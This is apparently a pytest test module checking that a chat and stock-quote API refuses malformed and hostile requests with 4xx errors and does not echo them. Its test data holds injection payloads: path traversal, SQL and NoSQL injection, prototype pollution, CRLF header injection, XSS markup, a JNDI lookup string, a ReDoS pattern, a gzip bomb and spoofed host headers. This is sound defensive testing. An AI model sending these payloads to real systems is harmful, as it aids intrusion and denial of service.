"""What clients should never send, over both chat routes and the query routes: always a problem of the 4xx kind."""

import gzip
import json
import time
from urllib.parse import quote

import pytest

from tests.app.client import CHAT, STREAM, AppClient, RawAnswer, check_problem, problem_of

MARK = "h0stile"
JSON = "application/json"
LIMIT = 262_144


def message(text: str = MARK, **fields: object) -> bytes:
    return json.dumps({"message": text, **fields}).encode()


def with_field(raw: str) -> bytes:
    return f'{{"message": "{MARK}", "symbols": {raw}}}'.encode()


SYNTAX = {
    "I1 malformed": (b'{"message": "h0stile"', 400, "invalid_json"),
    "I1 two documents": (b'{"message": "h0stile"} {}', 400, "invalid_json"),
    "I1 empty": (b"", 400, "invalid_json"),
    "I1 white space": (b" \n\t ", 400, "invalid_json"),
    "I1 byte order mark": (b"\xef\xbb\xbf" + message(), 400, "invalid_json"),
    "I1 UTF-16": ("{}".encode("utf-16"), 400, "invalid_json"),
    "I1 UTF-32": (message().decode().encode("utf-32-le"), 400, "invalid_json"),
    "I1 invalid UTF-8": (b'{"message": "h0stile \xff\xfe"}', 400, "invalid_json"),
    "I1 overlong UTF-8": (b'{"message": "h0stile \xc0\xaf"}', 400, "invalid_json"),
    "I1 surrogate in UTF-8": (b'{"message": "h0stile \xed\xa0\x80"}', 400, "invalid_json"),
    "I1 control character": (b'{"message": "h0stile \x01"}', 400, "invalid_json"),
    "I1 single quotes": (b"{'message': 'h0stile'}", 400, "invalid_json"),
    "I1 trailing comma": (b'{"message": "h0stile",}', 400, "invalid_json"),
    "I1 comment": (b'{"message": "h0stile" /* */}', 400, "invalid_json"),
    "I2 100,000 brackets": (b"[" * 100_000, 400, "invalid_json"),
    "I2 100,000 objects": (b'{"a":' * 50_000, 400, "invalid_json"),
    "I2 33 levels": (with_field("[" * 32 + "]" * 32), 400, "invalid_json"),
    "I2 quotes that never end": (b'[["' + b'\\"' * 130_000, 400, "invalid_json"),
    "I3 5,000 digits": (with_field("9" * 5000), 400, "invalid_json"),
    "I3 4,000 digits": (with_field("9" * 4000), 400, "validation_failed"),
    "I3 1e999": (with_field("[1e999]"), 400, "invalid_json"),
    "I3 NaN": (with_field("NaN"), 400, "invalid_json"),
    "I3 -Infinity": (with_field("-Infinity"), 400, "invalid_json"),
    "I4 duplicate key": (b'{"message": "h0stile", "message": "b"}', 400, "duplicate_key"),
    "I4 duplicate key, escaped": (b'{"message": "h0stile", "messag\\u0065": "b"}', 400, "duplicate_key"),
    "I4 duplicate key, deep": (with_field('[{"a": 1, "a": 2}]'), 400, "duplicate_key"),
    "I5 one byte too many": (message("a" * (LIMIT - len(message("")) + 1)), 413, "payload_too_large"),
    "I5 20,000 keys": (json.dumps({f"k{n}": 0 for n in range(20_000)}).encode(), 400, "validation_failed"),
    "I8 lone surrogate": (b'{"message": "h0stile \\ud800"}', 400, "invalid_json"),
    "I8 lone surrogate in a key": (b'{"message": "h0stile", "\\udfff": 1}', 400, "invalid_json"),
    "I8 reversed pair": (b'{"message": "h0stile \\udc00\\ud800"}', 400, "invalid_json"),
    "I8 only NUL": (message("\x00\x00"), 400, "validation_failed"),
    "I8 only direction marks": (message("\u202e\u2066\u200b\ufeff"), 400, "validation_failed"),
    "I8 10,000 combining marks": (message("e" + "\u0301" * 10_000), 400, "validation_failed"),
}
SHAPE = {
    "I7 array": (b"[]", 400, "validation_failed"),
    "I7 null": (b"null", 400, "validation_failed"),
    "I7 number": (b"7", 400, "validation_failed"),
    "I7 text": (b'"h0stile"', 400, "validation_failed"),
    "I7 true": (b"true", 400, "validation_failed"),
    "I7 no message": (b"{}", 400, "validation_failed"),
    **{
        f"I7 message {name}": (json.dumps({"message": value}).encode(), 400, "validation_failed")
        for name, value in {
            "int": 5,
            "null": None,
            "list": [MARK],
            "object": {"text": MARK},
            "true": True,
            "empty": "",
            "blank": " \n ",
        }.items()
    },
    "I7 stream as text": (message(stream="true"), 400, "validation_failed"),
    "I7 stream as number": (message(stream=1), 400, "validation_failed"),
    "I7 symbols as text": (message(symbols="AAPL"), 400, "validation_failed"),
    "I7 symbol as number": (message(symbols=[1]), 400, "validation_failed"),
    "I7 provider as list": (message(provider=["openai"]), 400, "validation_failed"),
    "I7 provider in capitals": (message(provider="OpenAI; DROP"), 400, "validation_failed"),
    "I7 model with line break": (message(model="gpt\r\nX-Evil: 1"), 400, "validation_failed"),
    "I9 traversal as symbol": (message(symbols=["../../etc/passwd"]), 400, "invalid_symbol"),
    "I9 NUL in symbol": (message(symbols=["AAPL\x00"]), 400, "invalid_symbol"),
    "I9 full-width dots": (message(symbols=["\uff0e\uff0e/A"]), 400, "invalid_symbol"),
    "I9 4 kB symbol": (message(symbols=["A" * 4096]), 400, "validation_failed"),
    "I9 traversal as id": (message(conversation_id="../../h0stile"), 400, "validation_failed"),
    "I10 operator": (message(conversation_id={"$gt": ""}), 400, "validation_failed"),
    "I10 $where": (message(**{"$where": "sleep(1)"}), 400, "validation_failed"),
    "I10 dotted key": (message(**{"user.role": "admin"}), 400, "validation_failed"),
    "I10 __proto__": (message(__proto__={"admin": True}), 400, "validation_failed"),
    "I10 role": (message(role="system"), 400, "validation_failed"),
    "I11 regular expression": (message(provider="(a+)+$" + "a" * 30), 400, "validation_failed"),
    "unknown key with markup": (message(**{"<script>alert(1)</script>h0stile": 1}), 400, "validation_failed"),
    "unknown key of 8 kB": (message(**{MARK * 1200: 1}), 400, "validation_failed"),
}


@pytest.mark.parametrize("path", [CHAT, STREAM])
@pytest.mark.parametrize("name", [*SYNTAX, *SHAPE])
def test_hostile_body_is_refused_and_not_repeated(sample_app: AppClient, path, name):
    """A body that is no strict JSON, or does not fit, is refused with its code, quickly, and without its own text."""
    body, status, code = {**SYNTAX, **SHAPE}[name]
    begun = time.monotonic()
    response = sample_app.request("POST", path, content=body, headers={"Content-Type": JSON})
    assert time.monotonic() - begun < 1
    problem = problem_of(response, status, code)
    assert MARK not in response.text
    assert len(response.content) < 8000
    if code == "validation_failed" and "errors" in problem:
        assert all({"field", "message"} == set(item) for item in problem["errors"])


@pytest.mark.parametrize("path", [CHAT, STREAM])
@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 415),
        ({"Content-Type": "text/plain"}, 415),
        ({"Content-Type": "text/json"}, 415),
        ({"Content-Type": "application/x-www-form-urlencoded"}, 415),
        ({"Content-Type": "multipart/form-data; boundary=x"}, 415),
        ({"Content-Type": "application/jsonp"}, 415),
        ({"Content-Type": "application/json, text/plain"}, 415),
        ({"Content-Type": "application/json; charset=utf-16"}, 415),
        ({"Content-Type": JSON, "Content-Encoding": "gzip"}, 415),
        ({"Content-Type": JSON, "Content-Encoding": "identity, br"}, 415),
    ],
    ids=str,
)
def test_I6_other_content_types_and_encodings_are_415(sample_app, path, headers, status):
    """Anything but unencoded JSON in UTF-8 is 415, so a form of another site cannot post here."""
    problem_of(sample_app.request("POST", path, content=message(), headers=headers), status, "unsupported_media_type")


@pytest.mark.parametrize(
    "content_type", ["application/json", "Application/JSON;charset=UTF-8", 'application/json ; charset="utf-8"']
)
def test_spellings_of_json_are_accepted(sample_app, content_type):
    """The media type counts whatever its case, with UTF-8 as its charset."""
    response = sample_app.request("POST", CHAT, content=message("hello"), headers={"Content-Type": content_type})
    assert response.status_code == 200


def test_I5_gzip_bomb_is_not_unpacked(sample_app):
    """A compressed body is refused by its header alone."""
    bomb = gzip.compress(b"[" * 10_000_000)
    response = sample_app.request(
        "POST", CHAT, content=bomb, headers={"Content-Type": JSON, "Content-Encoding": "gzip"}
    )
    problem_of(response, 415)


def head(path: str, *lines: str, method: str = "POST") -> bytes:
    given = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", f"Content-Type: {JSON}", *lines]
    return "\r\n".join([*given, "", ""]).encode("latin-1")


def refused(answer: RawAnswer, status: int, code: str | None = None) -> dict:
    assert status == answer.status, answer
    problem = check_problem(status, answer.headers, answer.content)
    assert code in {None, problem["code"]}
    return problem


def test_I5_body_of_exactly_256_KiB_is_read(sample_app):
    """256 KiB is the limit of a chat body: what is refused in it is its message."""
    body = message("a" * (LIMIT - len(message(""))))
    assert len(body) == LIMIT
    response = sample_app.request("POST", CHAT, content=body, headers={"Content-Type": JSON})
    problem_of(response, 400, "validation_failed")


@pytest.mark.parametrize("declared", [LIMIT + 1, 10**9, 10**18])
def test_I5_declared_size_is_refused_before_the_body_comes(sample_app, declared):
    """A Content-Length over the limit is 413 although not a byte of the body has been sent."""
    refused(sample_app.raw(head(CHAT, f"Content-Length: {declared}")), 413, "payload_too_large")


def test_I5_chunked_body_is_counted(sample_app):
    """A chunked body declares nothing and is refused as soon as it has passed the limit."""
    with sample_app.connection() as connection:
        connection.sendall(head(CHAT, "Transfer-Encoding: chunked"))
        for _ in range(5):
            connection.sendall(b"10000\r\n" + b"a" * 65_536 + b"\r\n")
        refused(RawAnswer.read(connection), 413, "payload_too_large")


def test_chunked_body_below_the_limit_is_accepted(sample_app):
    """A chunked body is as good as any other."""
    body = message("hello")
    chunks = b"".join(b"1\r\n" + body[i : i + 1] + b"\r\n" for i in range(len(body))) + b"0\r\n\r\n"
    assert sample_app.raw(head(CHAT, "Transfer-Encoding: chunked") + chunks).status == 200


def test_I5_declared_size_that_is_too_small_cuts_the_body(sample_app):
    """Bytes behind the declared length are not part of the body, and no request either: the server refuses them."""
    assert sample_app.raw(head(CHAT, "Content-Length: 5") + message()).status == 400


def test_body_that_never_comes_leaves_the_app_well(sample_app):
    """A client that announces a body and goes away is no error of ours: the app goes on, and its log stays quiet."""
    with sample_app.connection() as connection:
        connection.sendall(head(CHAT, "Content-Length: 50") + b'{"mess')
    assert sample_app.get("/api/health/live").status_code == 200


@pytest.mark.parametrize(
    "given",
    ["short", "x" * 65, "with space 1", "ümlaut-ümlaut", "semi;colon-1", "a" * 60_000, "line\tbreak-1", "'; DROP --1"],
    ids=lambda given: given[:12],
)
def test_I12_request_id_that_does_not_fit_is_replaced(sample_app, given):
    """A request id that is too short, too long or has other characters is replaced by a new one."""
    request = f"GET /api/health/live HTTP/1.1\r\nHost: x\r\nX-Request-ID: {given}\r\n\r\n".encode("latin-1")
    answer = sample_app.raw(request)
    assert answer.status == 200
    assert given != answer.headers["x-request-id"]
    assert 8 <= len(answer.headers["x-request-id"]) <= 64


@pytest.mark.parametrize("given", ["12345678", "a" * 64, "Aa0._-Aa0._-"])
def test_request_id_that_fits_is_kept(sample_app, given):
    """A request id of 8 to 64 plain characters is the one of the response, errors included."""
    headers = {"X-Request-ID": given}
    assert given == sample_app.get("/api/health/live", headers=headers).headers["x-request-id"]
    assert given == problem_of(sample_app.get("/api/nowhere", headers=headers), 404)["request_id"]


def test_I12_header_of_70_kB_is_no_failure(sample_app):
    """A header of 70 kB is either refused or ignored, never a 5xx."""
    answer = sample_app.raw(head("/api/health/live", f"X-Big: {'x' * 70_000}", method="GET"))
    assert answer.status < 500


SYMBOLS = {
    "traversal": "..%2f..%2fetc",
    "encoded dots": "%2e%2e",
    "backslash": "%5c..%5c",
    "NUL": "AAPL%00",
    "double encoding": "%252e%252e%252f",
    "invalid UTF-8": "%ff%fe",
    "SQL": quote("AAPL;DROP TABLE"),
    "markup": quote("<script>"),
    "16 characters": "A" * 16,
    "4 kB": "A" * 4096,
    "dotless i": quote("\u0131bm"),
    "sharp s": quote("\u00df"),
    "template": quote("{{7*7}}"),
    "operator": quote("[$ne]"),
}


@pytest.mark.parametrize("tail", ["", "/quote", "/price", "/history", "/indicators"])
@pytest.mark.parametrize("name", SYMBOLS)
def test_I9_hostile_symbol_is_refused(sample_app, name, tail):
    """A path whose symbol cannot be one is 400 invalid_symbol, or 404 where it leads elsewhere, and is not repeated."""
    answer = sample_app.raw(head(f"/api/symbols/{SYMBOLS[name]}{tail}", method="GET"))
    assert answer.status in {400, 404}
    problem = check_problem(answer.status, answer.headers, answer.content)
    assert problem["code"] in {"invalid_symbol", "not_found"}
    assert len(answer.content) < 1000
    assert not any(text in answer.content for text in (b"DROP", b"<script>", b"etc", b"X-Evil", b"7*7", b"AAAA"))


def test_I12_line_break_in_a_path_is_404_and_starts_no_header(sample_app):
    """A path with an encoded line break never gets past the web framework, and nothing of it becomes a header."""
    answer = sample_app.raw(head("/api/symbols/AAPL%0d%0aX-Evil:1", method="GET"))
    assert answer.status == 404
    assert "x-evil" not in answer.headers


QUERIES = [
    "/api/symbols",
    "/api/symbols?q=",
    "/api/symbols?q=a&q=b",
    "/api/symbols?q=a&limit=-1",
    "/api/symbols?q=a&limit=0",
    "/api/symbols?q=a&limit=101",
    "/api/symbols?q=a&limit=1e9",
    "/api/symbols?q=a&limit=1.5",
    "/api/symbols?q=a&limit=NaN",
    "/api/symbols?q=a&limit=%D9%A3",
    "/api/symbols?q=a&limit=99999999999999999999",
    "/api/symbols?q=a&limit=2&limit=3",
    "/api/symbols?q=a&admin=true",
    "/api/symbols?q[$ne]=a",
    f"/api/symbols?q={'a' * 8000}",
    "/api/quotes",
    "/api/quotes?symbols=",
    "/api/quotes?symbols=,,,",
    "/api/quotes?symbols=AAPL&symbols=MSFT",
    f"/api/quotes?symbols={','.join(f'S{n}' for n in range(51))}",
    "/api/symbols/AAPL/history?range=3y",
    "/api/symbols/AAPL/history?range=1y&range=2y",
    "/api/symbols/AAPL/history?interval=1m",
    "/api/symbols/AAPL/history?range=__class__",
    "/api/symbols/AAPL/indicators?names=",
    f"/api/symbols/AAPL/indicators?names={'a' * 4000}",
    "/api/symbols/AAPL/indicators?names=sma0",
    "/api/symbols/AAPL/indicators?names=sma-5",
    "/api/symbols/AAPL/indicators?names=sma99999999999",
    "/api/symbols/AAPL/indicators?names=rsi,__import__",
    f"/api/symbols/AAPL/indicators?names={','.join(['rsi'] * 13)}",
]


@pytest.mark.parametrize("path", QUERIES, ids=lambda path: path[:60])
def test_I14_hostile_query_is_400(sample_app, path):
    """A query parameter that is missing, repeated, unknown or out of bounds is 400 and is not repeated at length."""
    response = sample_app.get(path)
    problem_of(response, 400)
    assert len(response.content) < 1000


@pytest.mark.parametrize(
    ("method", "path", "allow"),
    [
        ("GET", CHAT, "POST"),
        ("PUT", CHAT, "POST"),
        ("DELETE", STREAM, "POST"),
        ("OPTIONS", CHAT, "POST"),
        ("POST", "/api/health", "HEAD, GET"),
        ("PATCH", "/api/health/live", "HEAD, GET"),
        ("DELETE", "/api/models", "HEAD, GET"),
        ("PUT", "/api/symbols/AAPL/quote", "HEAD, GET"),
        ("POST", "/api/config", "HEAD, GET"),
        ("POST", "/api/openapi.json", "HEAD, GET"),
    ],
)
def test_I13_wrong_method_is_405_with_allow(sample_app, method, path, allow):
    """A method that a path does not have is 405 and Allow names the ones that it has."""
    response = sample_app.request(method, path)
    problem_of(response, 405, "method_not_allowed")
    assert allow == response.headers["allow"]


def test_I13_wrong_method_is_refused_before_the_body_is_read(sample_app):
    """A method that a path does not have is refused whatever its body is."""
    answer = sample_app.raw(head("/api/health", "Content-Length: 100000000"))
    refused(answer, 405)


def test_I13_HEAD_of_a_chat_route_is_405_without_a_body(sample_app):
    """HEAD is not GET's twin where there is no GET."""
    response = sample_app.request("HEAD", CHAT)
    assert (response.status_code, response.content) == (405, b"")
    assert response.headers["allow"] == "POST"


@pytest.mark.parametrize(
    "path", ["/api/health", "/api/models", "/api/symbols/AAPL/quote", "/api/symbols?q=apple", "/api/nowhere"]
)
def test_HEAD_answers_as_GET_without_the_body(sample_app, path):
    """HEAD gives the status and type of GET, and no body."""
    answered, asked = sample_app.request("HEAD", path), sample_app.get(path)
    assert answered.content == b""
    assert asked.status_code == answered.status_code
    assert asked.headers["content-type"] == answered.headers["content-type"]


@pytest.mark.parametrize("method", ["TRACE", "BREW", "CONNECT", "PROPFIND"])
def test_I13_methods_of_another_world_are_no_failure(sample_app, method):
    """Methods that no route knows are refused with a 4xx."""
    answer = sample_app.raw(head("/api/chat", method=method))
    assert 400 <= answer.status < 500


@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "PATCH", "DELETE"])
@pytest.mark.parametrize(
    "path",
    ["/api", "/api/", "/api/nowhere", "/api/chat/", "/api/chat/stream/x", "/api/symbols/AAPL/quote/x", "/api/a%00b"],
)
def test_unknown_path_is_a_404_problem(sample_app, method, path):
    """Whatever is not a route below /api is answered by a 404 problem, or is the same route with a slash behind it."""
    response = sample_app.request(method, path)
    if path == "/api/chat/" and response.status_code != 404:
        # The host does not care about a slash at the end.
        assert response.status_code in {405, 415}
        check_problem(response.status_code, response.headers, response.content)
    else:
        problem_of(response, 404, "not_found")


@pytest.mark.parametrize("origin", ["null", "https://app.example.com.evil.io", "http://localhost", "*"])
def test_I15_foreign_origins_are_not_allowed(sample_app, origin):
    """Without a list of origins no cross-origin request is allowed, neither asked for first nor sent at once."""
    headers = {"Origin": origin, "Access-Control-Request-Method": "POST"}
    for response in (
        sample_app.request("OPTIONS", CHAT, headers=headers),
        sample_app.get("/api/health", headers={"Origin": origin}),
    ):
        assert "access-control-allow-origin" not in response.headers
        assert "access-control-allow-credentials" not in response.headers


def test_I16_forwarding_headers_change_nothing_in_the_answer(sample_app):
    """Host and forwarding headers are not repeated and lead nowhere."""
    headers = {
        "Host": "evil.example",
        "X-Forwarded-Host": "evil.example",
        "X-Original-URL": "/api/config",
        "X-Rewrite-URL": "/api/config",
        "X-HTTP-Method-Override": "DELETE",
        "X-Forwarded-For": "evil.example",
    }
    response = sample_app.get("/api/health/live", headers=headers)
    assert response.json() == {"status": "alive"}
    assert "evil" not in f"{response.headers} {response.text}"
    problem = problem_of(sample_app.get("/api/nowhere", headers=headers), 404)
    assert "evil" not in json.dumps(problem)


def test_invisible_characters_are_taken_out_of_a_question(sample_app):
    """Control characters and direction marks inside a question neither hide a symbol nor reach the answer."""
    answer = sample_app.ask("price of A\u200bA\u202eP\x00L?")
    assert {"AAPL"} == {fact["symbol"] for fact in answer["facts"]}


@pytest.mark.parametrize(
    "question",
    [
        "🤷" * 2000,
        "\u0301" * 8000,
        "price of " + "A" * 7000,
        "(((((" * 1500,
        "'; DROP TABLE users; --",
        "${jndi:ldap://x}",
        "{{7*7}} {0} %s %n",
        "1e999 NaN -Infinity 0x41",
        "AAPL " * 1600,
        "price\nof\r\nAAPL\tand\u2028MSFT",
        "\uff19\uff19\uff19 \uff21\uff21\uff30\uff2c",
        "price of " + ", ".join(f"S{n}" for n in range(900)),
    ],
    ids=lambda text: ascii(text[:12]),
)
def test_odd_questions_are_answered(sample_app, question):
    """Any text of up to 8,000 characters is a question that gets an answer, whole and as a stream, in little time."""
    begun = time.monotonic()
    assert sample_app.ask(question)["response"]
    assert sample_app.tell(question).end["event"] == "done"
    assert time.monotonic() - begun < 3
